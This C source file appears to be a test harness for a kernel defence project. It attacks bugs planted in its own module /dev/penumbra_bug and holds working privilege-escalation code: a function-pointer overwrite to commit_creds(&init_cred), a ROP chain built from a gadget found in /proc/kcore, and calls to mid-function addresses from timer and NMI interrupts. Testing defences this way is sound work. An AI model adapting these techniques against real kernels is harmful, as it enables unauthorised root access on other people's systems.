/* SPDX-License-Identifier: MIT OR Apache-2.0 */
/*
 * Attacks on the running kernel, by way of the planted bugs of module/penumbra_bug.c.
 *
 * The first two make an unprivileged process root, which only the kernel can do.  The addresses
 * are collected beforehand by `attack_prepare` as root, from /proc/kallsyms and
 * /proc/kcore; an attacker who has the kernel's package and its slide has the same.
 *
 *   pointer  simple_attr_write() calls attr->set(attr->data, value).  Make that
 *            commit_creds(&init_cred), entered just behind its ftrace site: an
 *            address that is in the middle of a function.
 *   return   write a chain over the return address of __x64_sys_ioctl():
 *            pop rdi; ret  ->  commit_creds(&init_cred)  ->  back to user mode.
 *            The gadget is the second byte of a `pop r15; ret`.
 *
 * The others show what becomes of a violation where no process is at work:
 *
 *   timer    an interrupt's handler calls the middle of noop_fsync(), which does nothing.
 *   nmi      the same at an NMI, which somebody outside has to send to this CPU.
 */
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <sched.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "module/bug.h"
#include "worker.h"

#define USER 1000

/* struct simple_attr (fs/libfs.c): get, set, get_buf[24], set_buf[24], data. */
#define ATTR_SET  1
#define ATTR_DATA 8

struct addresses {
	uint64_t commit_creds, init_cred, do_syscall_64, do_syscall_64_end;
	uint64_t to_user; /* swapgs_restore_regs_and_return_to_usermode */
	uint64_t stext, noop_fsync, inner, pop_rdi;
};

static void fail(const char *what)
{
	printf("attack: cannot: %s\n", what);
	exit(3);
}

static void read_symbols(struct addresses *a)
{
	static const char *const names[] = { "commit_creds", "init_cred", "do_syscall_64",
		"swapgs_restore_regs_and_return_to_usermode", "_stext", "noop_fsync" };
	uint64_t *const fields[] = { &a->commit_creds, &a->init_cred, &a->do_syscall_64, &a->to_user,
		&a->stext, &a->noop_fsync };
	char line[512], *name;
	FILE *f = fopen("/proc/kallsyms", "r");

	while (f && fgets(line, sizeof line, f) && !strchr(line, '[')) {
		uint64_t value = strtoul(line, &name, 16);

		/* The file is in address order: the next symbol ends the one before. */
		if (a->do_syscall_64 && !a->do_syscall_64_end && value > a->do_syscall_64)
			a->do_syscall_64_end = value;
		name += 3;
		name[strcspn(name, "\n")] = 0;
		for (size_t i = 0; i < sizeof names / sizeof *names; i++)
			if (!strcmp(name, names[i]))
				*fields[i] = value;
	}
	if (f)
		fclose(f);
	for (size_t i = 0; i < sizeof names / sizeof *names; i++)
		if (!*fields[i])
			fail(names[i]);
}

static void read_text(uint64_t address, void *to, size_t length)
{
	Elf64_Ehdr header;
	Elf64_Phdr segment;
	int fd = open("/proc/kcore", O_RDONLY);

	if (fd < 0 || read(fd, &header, sizeof header) != sizeof header)
		fail("/proc/kcore");
	for (int i = 0; i < header.e_phnum; i++) {
		if (pread(fd, &segment, sizeof segment, header.e_phoff + i * sizeof segment) != sizeof segment)
			fail("program headers of /proc/kcore");
		if (address >= segment.p_vaddr && address + length <= segment.p_vaddr + segment.p_memsz) {
			if (pread(fd, to, length, segment.p_offset + address - segment.p_vaddr) != (ssize_t)length)
				fail("text in /proc/kcore");
			close(fd);
			return;
		}
	}
	fail("no segment of /proc/kcore has the text");
}

/* The second byte of `pop r15; ret` is `pop rdi; ret`.  A hooked return is a jump instead. */
static uint64_t find_pop_rdi(const struct addresses *a)
{
	size_t length = 4 << 20;
	unsigned char *text = malloc(length);

	read_text(a->stext, text, length);
	for (size_t i = 0; i + 8 < length; i++)
		if (text[i] == 0x41 && text[i + 1] == 0x5e && text[i + 2] == 0x41 && text[i + 3] == 0x5f &&
		    (text[i + 4] == 0xc3 || text[i + 4] == 0xe9)) {
			free(text);
			return a->stext + i + 3;
		}
	fail("no `pop r14; pop r15; ret` in the first 4 MiB of text");
	return 0;
}

static void access_words(int fd, unsigned long command, int64_t index, uint64_t *words, uint64_t count)
{
	struct bug_access access = { .index = index, .count = count, .words = (uintptr_t)words };

	if (ioctl(fd, command, &access))
		fail("ioctl");
}

static void by_pointer(int fd, const struct addresses *a)
{
	uint64_t set = a->inner, data = a->init_cred;

	access_words(fd, BUG_HEAP_WRITE, ATTR_SET, &set, 1);
	access_words(fd, BUG_HEAP_WRITE, ATTR_DATA, &data, 1);
	if (write(fd, "0", 1) < 0)
		perror("write");
}

static void report(const char *kind)
{
	if (getuid() == 0 && geteuid() == 0)
		printf("attack %s: ran, uid %d became 0, pid %d\n", kind, USER, getpid());
	else
		printf("attack %s: no effect, pid %d\n", kind, getpid());
	fflush(stdout);
	/* init_cred's count is one too low now; ending would lower it again. */
	for (;;)
		pause();
}

static void after_return(void)
{
	report("return");
}

static void by_return(int fd, const struct addresses *a)
{
	static char stack[65536] __attribute__((aligned(16)));
	uint64_t word, chain[32];
	uint64_t user_cs, user_ss, flags;
	int64_t at = -1;
	int n = 0;

	/* From the array upwards, the first address in do_syscall_64 is where its callee returns to.
	 * One word at a time: the stack's end may be near (randomize_kstack_offset). */
	for (int64_t i = 0; i < 4 * BUG_WORDS && at < 0; i++) {
		access_words(fd, BUG_STACK_READ, i, &word, 1);
		if (word >= a->do_syscall_64 && word < a->do_syscall_64_end)
			at = i;
	}
	if (at < 0)
		fail("no return address into do_syscall_64 on the stack");

	__asm__ volatile("mov %%cs, %0; mov %%ss, %1; pushfq; pop %2"
			 : "=r"(user_cs), "=r"(user_ss), "=r"(flags));
	chain[n++] = a->pop_rdi;
	chain[n++] = a->init_cred;
	chain[n++] = a->commit_creds;
	chain[n++] = a->to_user;
	/* struct pt_regs: 15 general registers and orig_rax, then what iretq takes. */
	for (int i = 0; i < 16; i++)
		chain[n++] = 0;
	chain[n++] = (uintptr_t)after_return;
	chain[n++] = user_cs;
	chain[n++] = flags;
	chain[n++] = (uintptr_t)(stack + sizeof stack - 8);
	chain[n++] = user_ss;
	access_words(fd, BUG_STACK_WRITE, at, chain, (uint64_t)n);
	/* The ioctl returned here: the chain did not run. */
}

/* Behind the 5 bytes of a function's ftrace site, and behind an ENDBR64 where the kernel has them. */
static uint64_t behind_entry(uint64_t function)
{
	unsigned char entry[4];

	read_text(function, entry, sizeof entry);
	return function + (memcmp(entry, "\xf3\x0f\x1e\xfa", 4) ? 5 : 9);
}

/* Spins in user mode on this CPU, so that what comes meanwhile interrupts this process. */
static void in_interrupt(int fd, unsigned long command, uint64_t function)
{
	cpu_set_t cpus;
	int cpu = sched_getcpu();

	CPU_ZERO(&cpus);
	CPU_SET(cpu, &cpus);
	if (cpu < 0 || sched_setaffinity(0, sizeof cpus, &cpus))
		fail("stay on one CPU");
	if (ioctl(fd, command, function))
		fail("ioctl");
	printf("attack: waits on CPU %d\n", cpu);
	for (time_t end = time(NULL) + 20; time(NULL) < end;)
		;
	close(fd);
}

int attack_prepare(const char *file)
{
	struct addresses a = { 0 };
	FILE *f;

	read_symbols(&a);
	a.pop_rdi = find_pop_rdi(&a);
	a.inner = behind_entry(a.commit_creds);
	a.noop_fsync = behind_entry(a.noop_fsync);
	f = fopen(file, "w");
	if (!f || fwrite(&a, sizeof a, 1, f) != 1 || fclose(f))
		fail(file);
	printf("attack pointer: target commit_creds+%lu\n", a.inner - a.commit_creds);
	printf("attack return: gadget _stext+%#lx\n", a.pop_rdi - a.stext);
	return 0;
}

int attack(const char *kind, const char *file, const char *go)
{
	struct addresses a;
	FILE *f = fopen(file, "r");
	int fd;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!f || fread(&a, sizeof a, 1, f) != 1)
		fail(file);
	if (setresgid(USER, USER, USER) || setresuid(USER, USER, USER))
		fail("give up root");
	fd = open("/dev/penumbra_bug", O_RDWR);
	if (fd < 0)
		fail("open /dev/penumbra_bug");
	printf("attack %s: ready, pid %d\n", kind, getpid());
	/* The caller sees to it that this process has its view, and then says go. */
	while (access(go, F_OK))
		usleep(20000);
	if (!strcmp(kind, "pointer"))
		by_pointer(fd, &a);
	else if (!strcmp(kind, "return"))
		by_return(fd, &a);
	else
		in_interrupt(fd, strcmp(kind, "nmi") ? BUG_TIMER : BUG_NMI, a.noop_fsync);
	report(kind);
	return 0;
}
